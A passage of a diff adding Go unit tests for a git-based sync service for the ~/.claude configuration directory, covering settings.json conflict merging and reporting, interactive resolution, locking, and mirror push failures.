+		t.Errorf("phases = %v, want %v", recorder.phases, wantPhases)
+	}
+	if files := recorder.data["commit"]["changed_files"].([]string); len(files) != 1 || files[0] != "settings.json" {
+		t.Errorf("commit changed_files = %v", files)
+	}
+	if sha := recorder.data["commit"]["commit_sha"]; sha != "abc123full" {
+		t.Errorf("commit_sha = %v", sha)
+	}
+	if pulled := recorder.data["pull"]["pulled_commits"].([]map[string]string); len(pulled) != 1 || pulled[0]["sha"] != "def456" {
+		t.Errorf("pulled_commits = %v", pulled)
+	}
+	if pushed := recorder.data["push"]["pushed_commits"].([]map[string]string); len(pushed) != 1 || pushed[0]["subject"] != "Auto-sync: 2024-01-01" {
+		t.Errorf("pushed_commits = %v", pushed)
+	}
+	if recorder.data["summary"]["ahead"] != 0 || recorder.data["summary"]["branch"] != "main" {
+		t.Errorf("summary = %v", recorder.data["summary"])
+	}
+}
+
+func TestService_Run_SettingsConflictMerged(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+
+	claudeDir := "/home/user/.claude"
+	base := []byte(`{"enabledPlugins": {"a@market": true}}`)
+	remote := []byte(`{"enabledPlugins": {"a@market": true, "b@market": true}}`)
+	local := []byte(`{"enabledPlugins": {"a@market": true, "c@market": true}}`)
+	merged := []byte("{\n  \"enabledPlugins\": {\n    \"a@market\": true,\n    \"b@market\": true,\n    \"c@market\": true\n  }\n}\n")
+
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(errors.New("rebase conflict"))
+	git.EXPECT().HasConflicts(mock.Anything, claudeDir).Return(true, nil)
+	git.EXPECT().GetConflictedFiles(mock.Anything, claudeDir).Return([]string{"settings.json"}, nil)
+	git.EXPECT().GetConflictVersions(mock.Anything, claudeDir, "settings.json").Return(base, remote, local, nil)
+	git.EXPECT().ResolveConflict(mock.Anything, claudeDir, "settings.json", merged).Return(nil)
+	git.EXPECT().ContinueRebase(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger)
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+func TestService_Run_SettingsConflictOnSameKey(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+
+	claudeDir := "/home/user/.claude"
+
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(errors.New("rebase conflict"))
+	git.EXPECT().HasConflicts(mock.Anything, claudeDir).Return(true, nil)
+	git.EXPECT().GetConflictedFiles(mock.Anything, claudeDir).Return([]string{"settings.json"}, nil)
+	git.EXPECT().GetConflictVersions(mock.Anything, claudeDir, "settings.json").Return(
+		[]byte(`{"model": "sonnet"}`), []byte(`{"model": "opus"}`), []byte(`{"model": "haiku"}`), nil)
+	git.EXPECT().AbortRebase(mock.Anything, claudeDir).Return(nil)
+
+	var items []string
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Error(mock.Anything, mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Warning(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Muted(mock.Anything).Maybe()
+	logger.EXPECT().ListItem(mock.Anything).Run(func(message string) {
+		items = append(items, message)
+	})
+	logger.EXPECT().Newline().Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger)
+	err := service.Run(context.Background())
+
+	var conflictErr *gitpkg.ConflictError
+	if !errors.As(err, &conflictErr) {
+		t.Fatalf("Run() error = %v, want a ConflictError", err)
+	}
+	if len(conflictErr.Files) != 1 || conflictErr.Files[0] != "settings.json" {
+		t.Errorf("ConflictError.Files = %v, want [settings.json]", conflictErr.Files)
+	}
+
+	want := []string{`model (remote: "opus", local: "haiku")`, "settings.json"}
+	if strings.Join(items, "\n") != strings.Join(want, "\n") {
+		t.Errorf("conflict report = %v, want %v", items, want)
+	}
+}
+
+func TestService_Run_ConflictResolvedInteractively(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	resolver := NewMockConflictResolver(t)
+
+	claudeDir := "/home/user/.claude"
+	files := []string{"hooks/notify.sh", "settings.json"}
+	local := []byte("#!/bin/sh\necho local\n")
+
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(errors.New("rebase conflict"))
+	git.EXPECT().HasConflicts(mock.Anything, claudeDir).Return(true, nil)
+	git.EXPECT().GetConflictedFiles(mock.Anything, claudeDir).Return(files, nil)
+	git.EXPECT().GetConflictVersions(mock.Anything, claudeDir, "hooks/notify.sh").Return(
+		nil, []byte("#!/bin/sh\necho remote\n"), local, nil)
+	git.EXPECT().GetConflictVersions(mock.Anything, claudeDir, "settings.json").Return(
+		[]byte(`{"model": "sonnet"}`), []byte(`{"model": "opus"}`), []byte(`{"model": "sonnet", "theme": "dark"}`), nil)
+	git.EXPECT().ResolveConflict(mock.Anything, claudeDir, "hooks/notify.sh", local).Return(nil)
+	git.EXPECT().ResolveConflict(mock.Anything, claudeDir, "settings.json", mock.Anything).Return(nil)
+	git.EXPECT().ContinueRebase(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	// Only the hook script needs a decision; settings.json merges cleanly
+	resolver.EXPECT().Resolve(files, mock.MatchedBy(func(c FileConflict) bool {
+		return c.Path == "hooks/notify.sh" && c.FullPath == claudeDir+"/hooks/notify.sh"
+	})).Return(local, nil)
+
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithConflictResolver(resolver))
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}
+
+func TestService_Run_ConflictResolutionAborted(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	resolver := NewMockConflictResolver(t)
+
+	claudeDir := "/home/user/.claude"
+
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(errors.New("rebase conflict"))
+	git.EXPECT().HasConflicts(mock.Anything, claudeDir).Return(true, nil)
+	git.EXPECT().GetConflictedFiles(mock.Anything, claudeDir).Return([]string{"CLAUDE.md"}, nil)
+	git.EXPECT().GetConflictVersions(mock.Anything, claudeDir, "CLAUDE.md").Return(
+		[]byte("base\n"), []byte("remote\n"), []byte("local\n"), nil)
+	git.EXPECT().AbortRebase(mock.Anything, claudeDir).Return(nil)
+
+	resolver.EXPECT().Resolve([]string{"CLAUDE.md"}, mock.Anything).Return(nil, ErrConflictAborted)
+
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Warning(mock.Anything, "Conflict resolution aborted")
+	logger.EXPECT().Info(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithConflictResolver(resolver))
+	err := service.Run(context.Background())
+
+	var conflictErr *gitpkg.ConflictError
+	if !errors.As(err, &conflictErr) || len(conflictErr.Files) != 1 || conflictErr.Files[0] != "CLAUDE.md" {
+		t.Fatalf("Run() error = %v, want a ConflictError for CLAUDE.md", err)
+	}
+}
+
+func TestService_Run_LockHeld(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	locker := NewMockLocker(t)
+
+	claudeDir := "/home/user/.claude"
+	heldErr := errors.New("another sync is running: locked by pid 42 on laptop")
+
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	locker.EXPECT().Lock(mock.Anything, claudeDir).Return(nil, heldErr)
+
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Error(mock.Anything, "Sync already in progress", heldErr)
+	logger.EXPECT().Muted("  " + heldErr.Error())
+	logger.EXPECT().Newline().Maybe()
+
+	// No commit, pull, or push may happen while another run holds the lock
+	service := NewService(git, prompter, logger, WithLocker(locker))
+	if err := service.Run(context.Background()); !errors.Is(err, heldErr) {
+		t.Fatalf("Run() error = %v, want %v", err, heldErr)
+	}
+}
+
+func TestService_Run_ReleasesLock(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+	locker := NewMockLocker(t)
+
+	claudeDir := "/home/user/.claude"
+	released := false
+
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().Push(mock.Anything, claudeDir).RunAndReturn(func(context.Context, string) error {
+		if released {
+			t.Error("lock released before push")
+		}
+		return nil
+	})
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return(nil, nil)
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+	locker.EXPECT().Lock(mock.Anything, claudeDir).Return(func() { released = true }, nil)
+
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger, WithLocker(locker))
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	if !released {
+		t.Error("Run() did not release the lock")
+	}
+}
+
+func TestService_Run_MirrorFailureDoesNotFailSync(t *testing.T) {
+	t.Parallel()
+
+	git := NewMockGitOperator(t)
+	prompter := NewMockPrompter(t)
+	logger := NewMockLogger(t)
+
+	claudeDir := "/home/user/.claude"
+	unreachable := errors.New("could not resolve host nas")
+
+	git.EXPECT().ClaudeDirExists().Return(true, nil)
+	git.EXPECT().GetClaudeDir().Return(claudeDir, nil)
+	git.EXPECT().IsGitRepo(claudeDir).Return(true)
+	git.EXPECT().UpgradeGitignore(claudeDir).Return(false, nil)
+	git.EXPECT().GetChangedFiles(mock.Anything, claudeDir).Return([]string{}, nil)
+	git.EXPECT().HasUncommittedChanges(mock.Anything, claudeDir).Return(false, nil)
+	git.EXPECT().PullWithRebase(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().Push(mock.Anything, claudeDir).Return(nil)
+	git.EXPECT().BundleDir(mock.Anything, claudeDir).Return("", nil)
+	git.EXPECT().ListMirrors(mock.Anything, claudeDir).Return([]string{"backup", "nas"}, nil)
+	git.EXPECT().PushMirror(mock.Anything, claudeDir, "backup").Return(nil).Once()
+	git.EXPECT().PushMirror(mock.Anything, claudeDir, "nas").Return(unreachable).Once()
+	git.EXPECT().GetRecentCommits(mock.Anything, claudeDir, 5).Return([]string{}, nil)
+
+	logger.EXPECT().Success("✓", "Pushed to mirror backup").Once()
+	logger.EXPECT().Warning("⚠️", "Failed to push to mirror nas: "+unreachable.Error()).Once()
+	logger.EXPECT().Title(mock.Anything).Maybe()
+	logger.EXPECT().Success(mock.Anything, mock.Anything).Maybe()
+	logger.EXPECT().Newline().Maybe()
+
+	prompter.EXPECT().SpinWhile(mock.Anything, mock.Anything).RunAndReturn(func(msg string, task func() error) error {
+		return task()
+	}).Maybe()
+
+	service := NewService(git, prompter, logger)
+	if err := service.Run(context.Background()); err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+}